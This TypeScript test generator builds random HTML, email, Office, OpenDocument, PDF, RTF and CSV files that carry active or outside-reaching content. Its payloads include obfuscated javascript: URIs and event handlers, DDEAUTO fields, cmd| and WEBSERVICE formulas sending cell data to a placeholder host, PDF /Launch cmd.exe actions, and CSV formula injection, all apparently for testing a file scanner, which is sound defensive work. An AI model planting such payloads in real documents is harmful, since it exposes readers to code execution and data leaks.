// Files by chance that act or reach outside: a carrier, a way of writing it, a place for it.
import { strToU8 } from 'fflate'
import { book, letter, sheet, text } from './bad-carriers.ts'
import { HELD, mail } from './bad-files.ts'
import { withParts } from './bad-office.ts'
import { letter as pdf, stream } from './bad-pages.ts'
import type { HostileFile } from './hostile-file.ts'
import type { Chance } from './mutated-files.ts'
import { anyOf } from './seeded-bytes.ts'

const SAYS = /(?:active|outside)-content/

interface Acts {
  name: string
  how: string
  bytes: Uint8Array
}

export function actsByChance(random: Chance): HostileFile {
  const { name, how, bytes } = anyOf(random, WAYS)(random)
  return {
    set: 'acts or reaches outside',
    name,
    how,
    make: () => bytes,
    wrong: (now) =>
      SAYS.test(now.says) || now.refused.length > 0
        ? null
        : now.doubts.includes('part-not-read')
          ? null
          : 'NOT SAID',
  }
}

const WAYS: ((random: Chance) => Acts)[] = [
  asPage,
  asPage,
  asPage,
  asLetter,
  asBook,
  asOpen,
  asPdf,
  asPdf,
  asRich,
  asTable,
]

const EVENTS =
  'onload onerror onclick onmouseover onfocus onbegin onanimationstart ontoggle onpointerenter onwheel onbeforeunload onpageshow oncopy ondrag onsubmit'.split(
    ' ',
  )
const TAGS = [
  'p',
  'img',
  'svg',
  'details',
  'body',
  'input',
  'video',
  'marquee',
  'x-y',
  'math',
  'td',
  'form',
]
const SCRIPTS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java&#115;cript:alert(1)',
  'java\tscript:alert(1)',
  ' &#x0A;javascript:alert(1)',
  'vbscript:x',
  'data:text/html;base64,PHNjcmlwdD54KCk8L3NjcmlwdD4=',
  'javascript&colon;alert(1)',
]
const FAR = [
  'http://a.example/x',
  '//a.example/x',
  'HTTPS://a.example/x',
  'ftp://a.example/x',
  'http:&#47;&#47;a.example/x',
  '\\\\a.example\\x',
  'file://a.example/x',
]
const inAnyCase = (random: Chance, word: string): string =>
  [...word].map((letter) => (random(2) ? letter.toUpperCase() : letter)).join('')

const IN_PAGE: ((random: Chance) => string)[] = [
  (r) =>
    `<${anyOf(r, TAGS)}${anyOf(r, [' ', '\n', '/', '\t'])}${inAnyCase(r, anyOf(r, EVENTS))}${anyOf(r, ['=', ' = ', '\n='])}${anyOf(r, ['x()', '"x()"', "'x()'"])}>z`,
  (r) => `<a ${anyOf(r, ['href', 'HREF', 'xlink:href'])}="${anyOf(r, SCRIPTS)}">z</a>`,
  (r) =>
    `<${anyOf(r, ['iframe', 'embed', 'frame', 'img', 'video', 'audio', 'source', 'track', 'input type=image', 'script'])} src="${anyOf(r, FAR)}">`,
  (r) => `<object data="${anyOf(r, FAR)}"></object>`,
  (r) => `<form action="${anyOf(r, FAR)}"><input><button>z</button></form>`,
  (r) =>
    `<meta http-equiv=${anyOf(r, ['refresh', 'Refresh', '"REFRESH"'])} content="0;${anyOf(r, ['url=', 'URL=', ''])}${anyOf(r, FAR)}">`,
  (r) => `<${inAnyCase(r, 'script')}>x()</${inAnyCase(r, 'script')}>`,
  (r) =>
    `<p style="background:${anyOf(r, ['url(', 'URL( ', "url('", 'u\\72l('])}${anyOf(r, FAR.slice(0, 4))})">z`,
  (r) =>
    `<style>@import ${anyOf(r, ['', 'url('])}"${anyOf(r, FAR.slice(0, 4))}"${anyOf(r, ['', ')'])};</style>`,
  (r) =>
    `<link rel=${anyOf(r, ['stylesheet', 'icon', '"preload"', 'StyleSheet'])} href="${anyOf(r, FAR)}">`,
  (r) => `<iframe srcdoc="&lt;script&gt;x()&lt;/script&gt;" title=${r(9)}></iframe>`,
  (r) => `<svg><use href="${anyOf(r, FAR)}#a"/><image href="${anyOf(r, FAR)}"/></svg>`,
  (r) => `<base href="${anyOf(r, FAR)}">`,
  (r) => `<img srcset="${anyOf(r, FAR)} 2x">`,
  (r) => `<table background="${anyOf(r, FAR)}"><tr><td>z</td></tr></table>`,
  (r) => `<svg><set attributeName=href to="${anyOf(r, SCRIPTS)}"/></svg>`,
  (r) => `<svg><foreignObject><body ${anyOf(r, EVENTS)}=x()></foreignObject></svg>`,
  (r) => `<button formaction="${anyOf(r, SCRIPTS)}">z</button>`,
]

function asPage(random: Chance): Acts {
  const carrier = anyOf(random, IN_PAGE)(random)
  const page = anyOf(random, [
    `<html><body><p>${HELD}</p>${carrier}</body></html>`,
    `<html><head>${carrier}</head><body><p>${HELD}</p></body></html>`,
    `<!doctype html><p>${HELD}<table><tr><td>${carrier}</table>`,
    `<!--><p>${HELD}</p>${carrier}`,
  ])
  const forms: Acts[] = [
    { name: 'reply.html', how: carrier, bytes: strToU8(page) },
    {
      name: 'reply.eml',
      how: `mail: ${carrier}`,
      bytes: mail(page, 'Content-Type: text/html\r\n'),
    },
    {
      name: 'reply.mht',
      how: `archive of a page: ${carrier}`,
      bytes: strToU8(
        `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(page).toString('base64')}\r\n--b--\r\n`,
      ),
    },
  ]
  return anyOf(random, forms)
}

const OFFICE_KINDS =
  'attachedTemplate oleObject image frame subDocument externalLinkPath video audio media package control htmlPubSaveAs'.split(
    ' ',
  )
const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const STRICT = 'http://purl.oclc.org/ooxml/officeDocument/relationships'

const relation = (random: Chance, how: { kind: string; target: string }): string => {
  const inside = [
    `Type="${anyOf(random, [RELATION, STRICT])}/${how.kind}"`,
    `Target="${how.target}"`,
    'TargetMode="External"',
    'Id="rId77"',
  ].sort(() => random(3) - 1)
  const prefix = anyOf(random, ['', 'r:'])
  return `<${prefix}Relationships xmlns${prefix ? ':r' : ''}="http://schemas.openxmlformats.org/package/2006/relationships"><${prefix}Relationship ${inside.join(anyOf(random, [' ', '\n']))}/></${prefix}Relationships>`
}

function asLetter(random: Chance): Acts {
  const how = { kind: anyOf(random, OFFICE_KINDS), target: anyOf(random, FAR) }
  const at = anyOf(random, [
    'word/_rels/settings.xml.rels',
    'word/_rels/header1.xml.rels',
    'word/_rels/footnotes.xml.rels',
    'customXml/_rels/item1.xml.rels',
  ])
  const code = anyOf(random, [
    'DDEAUTO cmd "/k x"',
    'INCLUDEPICTURE "http://a.example/x"',
    'INCLUDETEXT "\\\\\\\\a.example\\\\x"',
    ' ddeauto  cmd x',
    'IMPORT "http://a.example/x"',
    'LINK Excel.Sheet.8 "http://a.example/x"',
  ])
  const pieces = Array.from({ length: 1 + random(4) }, (_, i, all = []) => i + all.length)
  const size = Math.ceil(code.length / pieces.length)
  const runs = pieces
    .map(
      (i) =>
        `<w:r><w:instrText>${escaped(code.slice(i * size, (i + 1) * size))}</w:instrText></w:r>`,
    )
    .join('')
  return anyOf(random, [
    {
      name: 'reply.docx',
      how: `${at}: ${how.kind} ${how.target}`,
      bytes: withParts(letter(), { [at]: relation(random, how) }),
    },
    {
      name: 'reply.docx',
      how: `field in ${pieces.length} pieces: ${code}`,
      bytes: letter(
        `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      ),
    },
  ])
}

const escaped = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')

const FORMULAS = [
  'WEBSERVICE("http://a.example/"&amp;A1)',
  "cmd|' /C calc'!A0",
  '_xlfn.WEBSERVICE("http://a.example")',
  'IMAGE("http://a.example/x.png")',
  "'http://a.example/[b.xlsx]S'!A1",
  'RTD("a.b",,"x")',
  'FILTERXML(WEBSERVICE("http://a.example"),"//a")',
  'CALL("kernel32","x","J")',
]

function asBook(random: Chance): Acts {
  const formula = anyOf(random, FORMULAS)
  const how = { kind: anyOf(random, OFFICE_KINDS), target: anyOf(random, FAR) }
  const at = anyOf(random, [
    'xl/worksheets/_rels/sheet1.xml.rels',
    'xl/drawings/_rels/drawing1.xml.rels',
    'xl/externalLinks/_rels/externalLink1.xml.rels',
  ])
  return anyOf(random, [
    {
      name: 'reply.xlsx',
      how: `formula ${formula}`,
      bytes: sheet(`<row r="2"><c r="A2"><f>${formula}</f><v>7</v></c></row>`),
    },
    {
      name: 'reply.xlsx',
      how: `${at}: ${how.kind} ${how.target}`,
      bytes: withParts(sheet(), { [at]: relation(random, how) }),
    },
    {
      name: 'reply.xlsx',
      how: `a name that is a formula: ${formula}`,
      bytes: withParts(sheet(), {
        'xl/workbook.xml': (xml) =>
          xml.replace(
            '</workbook>',
            `<definedNames><definedName name="${anyOf(random, ['Auto_Open', 'a', '_xlnm.Auto_Open'])}">${formula}</definedName></definedNames></workbook>`,
          ),
      }),
    },
  ])
}

const IN_OPEN: ((random: Chance) => string)[] = [
  (r) => `<text:p><draw:frame><draw:image xlink:href="${anyOf(r, FAR)}"/></draw:frame></text:p>`,
  (r) => `<text:p><draw:frame><draw:object xlink:href="${anyOf(r, FAR)}"/></draw:frame></text:p>`,
  (r) => `<text:p><draw:frame><draw:plugin xlink:href="${anyOf(r, FAR)}"/></draw:frame></text:p>`,
  (r) =>
    `<text:p><draw:frame><draw:floating-frame xlink:href="${anyOf(r, FAR)}"/></draw:frame></text:p>`,
  (r) =>
    `<text:section text:name="s"><text:section-source xlink:href="${anyOf(r, FAR)}"/></text:section>`,
  (r) =>
    `<text:p><text:a xlink:href="${anyOf(r, ['javascript:x()', 'vnd.sun.star.script:a?language=Basic', 'macro:///a'])}">z</text:a></text:p>`,
  (r) =>
    `<office:forms><form:form xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" xlink:href="${anyOf(r, FAR)}"/></office:forms>`,
  () =>
    `<text:p><office:event-listeners><script:event-listener script:event-name="dom:click" xlink:href="x"/></office:event-listeners></text:p>`,
  () => '<text:p><text:dde-connection text:connection-name="a"/></text:p>',
]

function asOpen(random: Chance): Acts {
  const carrier = anyOf(random, IN_OPEN)(random)
  const names =
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
  const put = (xml: string): string =>
    xml.replace('<office:document-content ', `<office:document-content ${names}`)
  return anyOf(random, [
    {
      name: 'reply.odt',
      how: carrier,
      bytes: withParts(text(carrier), { 'content.xml': put }),
    },
    {
      name: 'reply.ods',
      how: 'a formula that asks or starts',
      bytes: book(
        `<table:table-cell table:formula="of:=${anyOf(random, ['WEBSERVICE(&quot;http://a.example&quot;)', 'DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)', '1+WEBSERVICE([.A1])'])}"><text:p>7</text:p></table:table-cell>`,
      ),
    },
    {
      name: 'reply.odt',
      how: 'a library of macros',
      bytes: withParts(text(), {
        [anyOf(random, [
          'Basic/Standard/Module1.xml',
          'Scripts/beanshell/a.bsh',
          'Scripts/javascript/a.js',
        ])]:
          '<script:module xmlns:script="http://openoffice.org/2000/script">Sub x</script:module>',
      }),
    },
  ])
}

const ACTIONS = [
  '/S /JavaScript /JS (x)',
  '/S /Launch /F (cmd.exe)',
  '/S /URI /URI (http://a.example)',
  '/S /SubmitForm /F (http://a.example)',
  '/S /GoToR /F (\\\\\\\\a.example\\\\x.pdf) /D [0 /Fit]',
  '/S /ImportData /F (a.fdf)',
  '/S /GoToE /F (http://a.example)',
  '/S /Rendition /JS (x)',
]

/** `/S` as `/#53` is the same name. */
const spelled = (random: Chance, action: string): string =>
  random(2) === 0
    ? action
    : action.replace(
        /\/(JavaScript|Launch|SubmitForm|GoToR|ImportData|GoToE|Rendition|URI)/,
        (_, name: string) => {
          const at = random(name.length)
          return `/${name.slice(0, at)}#${name.charCodeAt(at).toString(16)}${name.slice(at + 1)}`
        },
      )

function asPdf(random: Chance): Acts {
  const action = `<< ${spelled(random, anyOf(random, ACTIONS))} >>`
  const event = anyOf(random, ['O', 'C'])
  const places: [string, () => Uint8Array][] = [
    ['as it opens', () => pdf({ catalog: `/OpenAction ${action}` })],
    ['as it opens, elsewhere', () => pdf({ catalog: '/OpenAction 6 0 R', more: [action] })],
    ['of the page', () => pdf({ page: `/AA << /${event} ${action} >>` })],
    [
      'of the page, elsewhere',
      () => pdf({ page: '/AA 6 0 R', more: [`<< /${event} 7 0 R >>`, action] }),
    ],
    [
      'of the whole',
      () =>
        pdf({ catalog: `/AA << /${anyOf(random, ['WC', 'WS', 'DS', 'WP', 'DP'])} ${action} >>` }),
    ],
    [
      'the next of another',
      () => pdf({ catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [${action}] >>` }),
    ],
    [
      'of an outline',
      () =>
        pdf({
          catalog: '/Outlines 6 0 R',
          more: [
            '<< /First 7 0 R /Last 7 0 R /Count 1 >>',
            `<< /Title (a) /Parent 6 0 R /A ${asScript(action)} >>`,
          ],
        }),
    ],
    [
      'of a field',
      () =>
        pdf({
          catalog: '/AcroForm << /Fields [6 0 R] >>',
          more: [
            `<< /FT /Tx /T (a) /AA << /${anyOf(random, ['K', 'F', 'V', 'C'])} ${action} >> >>`,
          ],
        }),
    ],
    [
      'among its names',
      () =>
        pdf({
          catalog: '/Names << /JavaScript 6 0 R >>',
          more: ['<< /Kids [7 0 R] >>', '<< /Names [(a) << /S /JavaScript /JS (x) >>] >>'],
        }),
    ],
    [
      'a stream far away',
      () => pdf({ more: [stream('', '/F << /FS /URL /F (http://a.example) >>')] }),
    ],
  ]
  const [where, make] = anyOf(random, places)
  return { name: 'reply.pdf', how: `${action} ${where}`, bytes: make() }
}

/** A link waits for a click. */
const asScript = (action: string): string =>
  /\(http/.test(action) && !/F \(/.test(action) ? '<< /S /JavaScript /JS (x) >>' : action

const IN_RICH = [
  '{\\field{\\*\\fldinst{INCLUDEPICTURE "http://a.example/x" \\\\d}}{\\fldrslt z}}',
  '{\\field{\\*\\fldinst DDEAUTO cmd x}{\\fldrslt z}}',
  '{\\field{\\*\\fldinst{INCL}{UDETEXT "http://a.example/x"}}{\\fldrslt z}}',
  '{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 0105}}',
  "{\\obj\\'65ct\\objocx{\\*\\objdata 01050000}}",
  '{\\*\\template http://a.example/x.dot}',
  '{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000}}',
  '{\\field{\\*\\fldinst HYPERLINK "javascript:x()"}{\\fldrslt z}}',
  '{\\*\\htmltag <script>x()</script>}{\\object\\objlink z}',
]

function asRich(random: Chance): Acts {
  const carrier = anyOf(random, IN_RICH)
  const [before, after] = anyOf(random, [
    ['', ''],
    ['{\\b ', '}'],
    ['\\trowd\\cellx900 ', '\\cell\\row '],
    ['{\\header ', '}'],
    ['{\\footnote ', '}'],
  ]) as [string, string]
  return {
    name: 'reply.rtf',
    how: `${before}${carrier}`,
    bytes: strToU8(`{\\rtf1\\ansi ${HELD}\\par ${before}${carrier}${after}}`),
  }
}

const CELLS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://a.example/"&A1;"z")',
  '+cmd|x!A0',
  '-2+3+cmd|x!A0',
  '@SUM(1+1)*cmd|x!A0',
  '=WEBSERVICE("http://a.example")',
  '=IMPORTXML("http://a.example";"//a")',
  '\t=cmd|x!A0',
  '\r=cmd|x!A0',
  '=DDE("a";"b";"c")',
  '=IMAGE("http://a.example/x")',
  '=1+1+cmd|x!A0',
  '＝cmd|x!A0',
  '=EXEC("x")',
]

function asTable(random: Chance): Acts {
  const cell = anyOf(random, CELLS)
  const parted = anyOf(random, [',', ';', '\t'])
  const held = `"${cell.replaceAll('"', '""')}"`
  const rows = [
    ['Year', 'Officers', 'Note'],
    ['2013', '7', HELD],
    anyOf(random, [
      ['2014', '9', held],
      [held, '9', 'z'],
      ['2014', held, ''],
    ]),
  ]
  return {
    name: anyOf(random, ['reply.csv', 'reply.csv', 'reply.tsv']),
    how: cell,
    bytes: strToU8(
      `${anyOf(random, ['', '\ufeff'])}${rows.map((row) => row.join(parted)).join('\r\n')}\r\n`,
    ),
  }
}
